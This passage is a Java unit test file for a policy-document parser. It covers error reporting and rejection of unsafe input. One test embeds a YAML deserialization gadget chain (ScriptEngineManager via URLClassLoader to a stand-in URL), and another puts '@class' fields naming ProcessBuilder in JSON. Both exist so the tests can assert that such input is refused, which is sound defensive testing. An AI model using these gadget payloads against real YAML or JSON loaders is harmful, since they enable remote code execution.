        "names the on-call schedule \"primary-sre\", but no on-call source was given to the loader; load with "
            + "PolicyDocuments.loader().withOnCallSource(source)");
  }

  @Test
  void invalidPrivilegePatternIsPlacedAtTheRuleName() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse(RULE.replace("payments.refund",
        "payments.*.refund"), "policy.yaml"));

    PolicyDocumentException.Problem p = only(e);
    assertProblem(p, "policy.yaml", 2, 3, "policies.payments.*.refund", p.message());
    assertThat(p.message()).startsWith("privilege pattern \"payments.*.refund\" has a '*' that is not a final '.*' "
        + "segment");
  }

  @Test
  void invalidIdentifierIsPlacedAtItsListEntry() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse(RULE.replace("[support]",
        "[support, \"sup port\"]"), "policy.yaml"));

    PolicyDocumentException.Problem p = only(e);
    assertThat(p.path()).isEqualTo("policies.payments.refund.eligible.groups[1]");
    assertThat(p.line()).isEqualTo(3);
    assertThat(p.column()).isEqualTo(35);
    assertThat(p.message()).startsWith("\"sup port\" has whitespace");
  }

  @Test
  void everyProblemIsReportedAtOnceInDocumentOrder() throws IOException {
    Path file = dir.resolve("broken.yaml");
    copyResource("policies/broken.yaml", file);
    String source = file.toString();

    PolicyDocumentException e = rejected(() -> PolicyDocuments.load(file));

    assertThat(e.problems()).hasSize(4);
    assertProblem(e.problems().get(0), source, 4, 25, "policies.payments.refund.eligible.groups",
        "must be a list of names, but was the text \"support\"; write it as a list: [\"support\"]");
    assertProblem(e.problems().get(1), source, 5, 18, "policies.payments.refund.maxDuration",
        "must be positive and at most PT8784H, but was PT-5S");
    assertThat(e.problems().get(2).path()).isEqualTo("policies.payments.refund.maxDuraton");
    assertThat(e.problems().get(2).message()).startsWith("unknown field \"maxDuraton\"; did you mean "
        + "\"maxDuration\"?");
    assertProblem(e.problems().get(3), source, 8, 13, "policies.payments.refund.approval.mode",
        "must be one of ALL, ANY, but was \"all\"; did you mean ALL?");
    assertThat(e.getMessage()).startsWith("Policy document " + source + " has 4 problems; nothing was loaded:\n  "
        + source + ":4:25: policies.payments.refund.eligible.groups: must be a list");
  }

  @Test
  void problemsInSeveralRulesAreAllReported() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("""
        administrators: { groups: admins }
        policies:
          logs.read:
            eligible: { groups: [dev] }
          payments.refund:
            eligible: { groups: [support] }
            approval: { groups: [leads] }
            maxUses: 0
        """, "policy.yaml"));

    assertThat(e.problems()).extracting(PolicyDocumentException.Problem::path).containsExactly(
        "administrators.groups", "policies.logs.read.approval", "policies.payments.refund.maxUses");
    assertThat(e.problems()).extracting(PolicyDocumentException.Problem::line).containsExactly(1, 3, 8);
  }

  // ------------------------------------------------------------------------------------------------ no typing

  /** Counts instances: a document that names this class must never create one. */
  public static final class Canary {
    static volatile int created;

    public Canary() {
      created++;
    }
  }

  @Test
  void jsonNamingAClassIsAnUnknownFieldAndCreatesNothing() {
    String canary = Canary.class.getName();
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("{\"@class\": \"" + canary + "\", "
        + "\"policies\": {\"logs.read\": {\"@class\": \"java.lang.ProcessBuilder\", \"eligible\": [\"" + canary
        + "\", {\"groups\": [\"dev\"]}], \"autoApprove\": [{\"always\": true}]}}}", "policy.json"));

    assertThat(e.problems()).extracting(PolicyDocumentException.Problem::path)
        .containsExactly("@class", "policies.logs.read.@class", "policies.logs.read.eligible");
    assertThat(e.problems().get(0).message()).startsWith("unknown field \"@class\"; remove it");
    assertThat(e.problems().get(2).message()).startsWith("must be a mapping with the fields groups, subjects, "
        + "attributes, but was a list");
    assertThat(Canary.created).isZero();
  }

  @Test
  void yamlTagsNamingClassesAreRejectedAndCreateNothing() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("""
        exploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
        policies:
          logs.read: !!dev.jitguard.policy.PolicyDocumentsTest$Canary
            eligible: { groups: [dev] }
            autoApprove: [{ always: true }]
        """, "policy.yaml"));

    assertThat(e.problems()).extracting(PolicyDocumentException.Problem::path).containsExactly("exploit", "exploit",
        "exploit[0]", "exploit[0][0][0]", "policies.logs.read");
    assertProblem(e.problems().get(1), "policy.yaml", 1, 10, "exploit", "has the YAML tag "
        + "\"tag:yaml.org,2002:javax.script.ScriptEngineManager\", but policy documents do not accept tags: a "
        + "document holds plain values and can never name a type; remove the tag");
    assertThat(e.problems().get(0).message()).startsWith("unknown field \"exploit\"");
    assertThat(e.problems().get(4).message()).contains("PolicyDocumentsTest$Canary");
    assertThat(Canary.created).isZero();
  }

  @Test
  void yamlAnchorsAndAliasesAreRejected() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("""
        policies:
          logs.read:
            eligible: { groups: &devs [dev] }
            autoApprove: [{ always: true }]
          logs.write:
            eligible: { groups: *devs }
            autoApprove: [{ always: true }]
        """, "policy.yaml"));

    assertThat(e.problems()).hasSize(3);
    assertProblem(e.problems().get(0), "policy.yaml", 3, 25, "policies.logs.read.eligible.groups",
        "has the YAML anchor \"&devs\", but policy documents do not accept anchors and aliases; write the value out "
            + "in full");
    assertProblem(e.problems().get(1), "policy.yaml", 6, 25, "policies.logs.write.eligible.groups",
        "is the YAML alias \"*devs\", but policy documents do not accept anchors and aliases; write the value out in "
            + "full");
  }

  @Test
  void deeplyNestedDocumentIsRejected() {
    String doc = "{\"policies\": " + "[".repeat(40) + "]".repeat(40) + "}";

    PolicyDocumentException.Problem p = only(rejected(() -> PolicyDocuments.parse(doc, "policy.json")));

    assertThat(p.message()).contains("nested more than 16 levels deep");
  }

  // ------------------------------------------------------------------------------------------------ loader

  @Test
  void loaderOptionsMayBeSetOnce() {
    PolicyDocuments.Loader loader = PolicyDocuments.loader().withOnCallSource(onCall)
        .withFormat(PolicyDocuments.Format.JSON);

    assertThatThrownBy(() -> loader.withOnCallSource(onCall)).isInstanceOf(IllegalStateException.class)
        .hasMessageStartingWith("onCallSource was already set");
    assertThatThrownBy(() -> loader.withFormat(PolicyDocuments.Format.YAML)).isInstanceOf(IllegalStateException.class)
        .hasMessage("format was already set to JSON");
  }

  @Test
  void formatFollowsTheExtensionInAnyCase() {
    assertThat(PolicyDocuments.Format.forName("a/b/Policy.YML")).hasValue(PolicyDocuments.Format.YAML);
    assertThat(PolicyDocuments.Format.forName("policy.yaml")).hasValue(PolicyDocuments.Format.YAML);
    assertThat(PolicyDocuments.Format.forName("policy.json")).hasValue(PolicyDocuments.Format.JSON);
    assertThat(PolicyDocuments.Format.forName("policy.yaml.bak")).isEmpty();
  }

  private static void copyResource(String resource, Path to) throws IOException {
    try (InputStream in = PolicyDocumentsTest.class.getResourceAsStream("/" + resource)) {
      Files.copy(Objects.requireNonNull(in, resource), to);
    }
  }
}
